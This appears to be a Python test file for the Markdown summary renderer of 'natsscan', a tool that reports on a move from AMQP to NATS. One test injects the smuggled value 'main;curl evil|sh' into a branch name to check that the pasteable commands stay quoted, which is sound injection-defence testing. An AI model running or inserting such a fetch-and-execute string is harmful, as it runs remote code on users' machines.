"""The summary of a change: what a reviewer reads first, in Markdown that scanned code cannot get out of."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest
from hypothesis import given
from markdown_it import MarkdownIt

from natsscan.model.checklist import Judgement, Status, Task
from natsscan.model.comparison import Comparison, Fate, PropertyChange, TaskMove
from natsscan.model.coverage import Loss, Problem
from natsscan.model.finding import Finding, Severity
from natsscan.model.span import Span
from natsscan.model.usage import Tier
from natsscan.reports.summary import Links, render
from tests.reports.outcomes import finding, outcome
from tests.reports.test_any_text import TEXTS

FILES = {"src/A B.hs": b"publish\nack\nlast", "src/C.hs": b"consume\n"}
LINKS = Links("https://forge/blob/base", "https://forge/blob/head", "https://forge/run/1")
LIMIT = 65_536


def lost(about: str = "queue jobs", prop: str = "durable", before: str = "", fate: Fate = Fate.LOST) -> PropertyChange:
    at = (Span("src/A B.hs", 0, 1, 2, 1, 2, 2), Span("src/A B.hs", 0, 1, 3, 1, 3, 2))
    by = (Span("src/C.hs", 0, 1, 1, 1, 1, 2),) if fate is not Fate.LOST else ()
    after = "7" if fate is Fate.CHANGED else ""
    return PropertyChange(about, prop, before, after, fate, "durable", "Set `storage: file`.", at, by)


def new(message: str = "publishes to jobs", severity: Severity = Severity.ERROR, path: str = "src/A B.hs") -> Finding:
    text = FILES[path].split(b"\n")[0].decode()
    return finding(FILES, path, text, message=message, severity=severity, identity=message)


def task(text: str, is_finished: bool) -> TaskMove:
    judged = Judgement(Task("t", text, (), (), (), 1, 1, 0, False), Status.DONE, "nothing is left")
    return TaskMove(judged, is_finished)


def change(
    *,
    properties: tuple[PropertyChange, ...] = (),
    found: tuple[Finding, ...] = (),
    fixed: tuple[Finding, ...] = (),
    tasks: tuple[TaskMove, ...] = (),
    problems: tuple[Problem, ...] = (),
) -> Comparison:
    before, after = outcome(FILES, fixed).report, outcome(FILES, found, problems=problems).report
    return Comparison("main", "abc", before, after, found, fixed, (), properties, tasks=tasks)


def lines(comparison: Comparison, links: Links = LINKS, longest: int = LIMIT) -> list[str]:
    return render(comparison, links, longest, "<!-- m -->").split("\n")


def test_the_first_line_is_the_answer() -> None:
    comparison = change(properties=(lost(), lost(prop="ttl")), found=(new(),), fixed=(new("a"), new("b"), new("c")))

    assert lines(comparison)[:2] == [
        "<!-- m -->",
        "**natsscan: 2 messaging properties lost, 1 new finding, 3 gone, effort left 15 → 5 points** (`main` to `abc`)",
    ]


def test_nothing_is_said_of_a_change_that_does_nothing() -> None:
    assert render(change(), LINKS, LIMIT, "<!-- m -->") == ""


def test_that_a_document_mentions_the_broker_is_no_news() -> None:
    mention = new("mentions the broker")
    mention = replace(mention, usage=replace(mention.usage, tier=Tier.MENTION))

    assert render(change(found=(mention,), fixed=(mention,)), LINKS, LIMIT) == ""


def test_what_is_lost_comes_first_with_its_places_before_the_change() -> None:
    text = lines(change(properties=(lost(before="quorum"),), found=(new(),)))

    assert text[3] == "### Lost, and nothing on NATS keeps it"
    assert text[7] == (
        "| queue jobs | durable | `quorum` | [`src/A B.hs:2`](https://forge/blob/base/src/A%20B.hs#L2), "
        "[`:3`](https://forge/blob/base/src/A%20B.hs#L3) | Set `storage: file`. |"
    )


def test_new_findings_are_told_by_severity_with_links_to_their_lines() -> None:
    found = (new("a note", Severity.NOTE), new("an error", Severity.ERROR, "src/C.hs"), new("an error too"))
    text = lines(change(found=found))

    assert [line for line in text if line.startswith("###")] == ["### New: 2 errors", "### New: 1 note"]
    rows = [line for line in text if line.startswith("| [")]
    assert rows[1] == "| [`src/C.hs:1`](https://forge/blob/head/src/C.hs#L1) | an error | `amqp-publish` | 5 |"


def test_uses_of_wrappers_come_after_those_of_the_broker() -> None:
    wrapped = new("a wrapper")
    wrapped = replace(wrapped, usage=replace(wrapped.usage, tier=Tier.INDIRECT))
    text = lines(change(found=(wrapped, new("itself", path="src/C.hs"))))

    assert [re.split(r" \| ", line)[1] for line in text if line.startswith("| [")] == ["itself", "a wrapper"]


def test_what_is_kept_and_changed_tasks_and_what_could_not_be_read() -> None:
    text = lines(
        change(
            properties=(lost(fate=Fate.KEPT), lost(prop="ttl", before="5", fate=Fate.CHANGED)),
            tasks=(task("Move `cannon`", True), task("Drop amqp", False)),
            problems=(Problem("src/C.hs", 4, "no Haskell", Loss.PART),),
        )
    )

    rows = [line for line in text if line.startswith("| ") and not line.startswith("| ---")]
    assert "| queue jobs | ttl | `5` | `7` | [`src/C.hs:1`](https://forge/blob/head/src/C.hs#L1) |" in rows
    assert any(row.endswith("| [`src/C.hs:1`](https://forge/blob/head/src/C.hs#L1) |") for row in rows)
    assert "| done | Move `cannon` | nothing is left |" in rows
    assert "| to do again | Drop amqp | nothing is left |" in rows
    assert "| [`src/C.hs:4`](https://forge/blob/head/src/C.hs#L4) | no Haskell |" in rows


def test_commands_for_more_can_be_pasted() -> None:
    comparison = replace(change(properties=(lost(),), found=(new(),)), base="main;curl evil|sh")
    commands = [line for line in lines(comparison) if line.startswith("- ")]

    assert commands == [
        "- `natsscan diff 'main;curl evil|sh...abc' -v`: all of this, with the lines",
        "- `natsscan explain durable`: what is lost there, and what NATS has for it",
        "- `natsscan explain amqp-publish`: why it matters on NATS",
        "- `natsscan patch . --only amqp-publish`: what to change, as a diff or by hand",
    ]


def test_places_are_told_without_links_where_no_forge_is_known() -> None:
    assert "](" not in "".join(lines(change(properties=(lost(),), found=(new(),)), Links()))


@pytest.mark.parametrize("longest", [2_000, LIMIT, 1_000_000])
def test_it_is_cut_by_whole_rows_and_says_how_many(longest: int) -> None:
    found = tuple(
        new(f"publishes to queue number {number:05} of very many, each with a name") for number in range(9_000)
    )
    text = render(change(properties=(lost(),), found=found), LINKS, longest, "<!-- m -->")

    assert longest * 0.85 < len(text.encode()) <= longest
    rows = [line for line in text.split("\n") if "publishes to queue" in line]
    assert all(row.endswith("| `amqp-publish` | 5 |") for row in rows)
    left_out = 9_000 - len(rows)
    assert f"**{left_out:,} rows are left out here** for want of room; [the run](https://forge/run/1) and" in text
    assert "| queue jobs | durable |" in text
    assert f"\n{left_out:,} more of these are left out here.\n" in text
    assert text.count("<details") == text.count("</details>") == (len(rows) > 12)


@given(TEXTS)
def test_text_of_scanned_code_stays_inside(text: str) -> None:
    hostile = new(text)
    hostile = replace(
        hostile, rule=text or "r", usage=replace(hostile.usage, span=replace(hostile.usage.span, path=text))
    )
    gone = replace(lost(text, text, text), rule=text, advice=text, at=(Span(text, 0, 1, 1, 1, 1, 2),))
    kept = replace(gone, fate=Fate.KEPT, by=gone.at)
    comparison = change(
        properties=(gone, kept, replace(kept, fate=Fate.CHANGED, after=text)),
        found=(hostile,),
        fixed=(hostile,),
        tasks=(task(text, True),),
        problems=(Problem(text, 1, text, Loss.PART),),
    )
    shown = render(replace(comparison, base=text, head=text), LINKS, LIMIT, "<!-- m -->")

    page = MarkdownIt("gfm-like", {"linkify": False}).parse(shown.partition("\n")[2])
    inline = [token for block in page if block.type == "inline" for token in block.children or ()]
    assert {token.content for token in inline if token.type == "html_inline"} <= {"<span>", "</span>"}
    assert all(
        str(token.attrs["href"]).startswith("https://forge/blob/") for token in inline if token.type == "link_open"
    )
    assert not any(token.type in ("image", "s_open", "em_open") for token in inline)
    assert not any(token.type in ("html_block", "fence", "code_block", "hr", "blockquote_open") for token in page)
    assert sum(token.type == "heading_open" for token in page) == 6
    assert sum(token.type == "tr_open" for token in page) == 12
    assert sum(token.type == "td_open" for token in page) == 5 + 5 + 4 + 5 + 3 + 2
    plain = "".join(token.content for token in inline if token.type == "text")
    assert not re.search(r"@\w|(?<!\w)[#!]\d|\bGH-\d|://|[\u202a-\u202e\u2066-\u2069]", plain)
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", shown)
